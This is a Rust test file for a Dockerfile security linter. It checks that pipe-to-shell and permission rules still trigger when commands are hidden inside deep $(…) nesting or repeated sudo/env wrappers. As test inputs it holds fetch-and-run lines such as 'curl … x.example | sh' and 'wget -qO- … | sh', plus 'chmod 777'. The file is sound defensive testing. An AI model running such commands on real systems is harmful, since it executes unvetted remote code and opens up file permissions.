//! Rule evasions by shell structure (hostile-input issue, item 14): deep
//! `$(…)` nesting once hid `curl | sh` past 8 levels, and `sudo sudo …` /
//! `env env …` hid the wrapped command. Past the nesting bound the run says
//! so in a note instead of reporting a clean RUN.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

use bulkhead_core::Catalogue;
use bulkhead_dockerfile::analyze::{Output, analyze};
use bulkhead_dockerfile::rules::Config;

fn run(text: &str) -> Output {
    let mut c = Catalogue::new();
    c.extend(&bulkhead_dockerfile::rules::rules());
    analyze("Dockerfile", text, &Config::default(), &|_| true, &c).unwrap()
}

fn ids(o: &Output) -> Vec<&str> {
    o.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

fn nested(levels: usize, inner: &str) -> String {
    format!(
        "FROM alpine:3.20\nUSER 1000\nRUN echo {}{inner}{}\n",
        "$(echo ".repeat(levels - 1) + "$(",
        ")".repeat(levels)
    )
}

#[test]
fn pipe_to_shell_is_found_at_any_reasonable_depth() {
    for levels in [1, 9, 20, 64] {
        let o = run(&nested(levels, "curl -s https://x.example/i | sh"));
        assert!(ids(&o).contains(&"DF031"), "{levels} levels: {:?}", ids(&o));
        assert!(o.notes.is_empty(), "{:?}", o.notes);
    }
}

#[test]
fn past_the_bound_a_note_says_what_was_not_read() {
    let o = run(&nested(70, "curl -s https://x.example/i | sh"));
    assert!(
        o.notes.iter().any(|n| n.contains("deeper than 64 levels")),
        "{:?}",
        o.notes
    );
}

#[test]
fn repeated_wrappers_are_unwrapped() {
    let o = run("FROM alpine:3.20\nUSER 1000\nRUN sudo sudo chmod 777 /srv\n");
    assert!(ids(&o).contains(&"DF046"), "{:?}", ids(&o));
    let o =
        run("FROM alpine:3.20\nUSER 1000\nRUN env env A=1 wget -qO- https://x.example/j | sh\n");
    assert!(ids(&o).contains(&"DF031"), "{:?}", ids(&o));
    let o = run("FROM alpine:3.20\nUSER 1000\nRUN sudo sh -c \"curl -k https://x.example\"\n");
    assert!(ids(&o).contains(&"DF032"), "{:?}", ids(&o));
}

#[test]
fn deep_nesting_stays_fast() {
    let t = std::time::Instant::now();
    let o = run(&nested(5000, "true"));
    assert!(!o.notes.is_empty());
    assert!(
        t.elapsed() < std::time::Duration::from_secs(10),
        "{:?}",
        t.elapsed()
    );
}
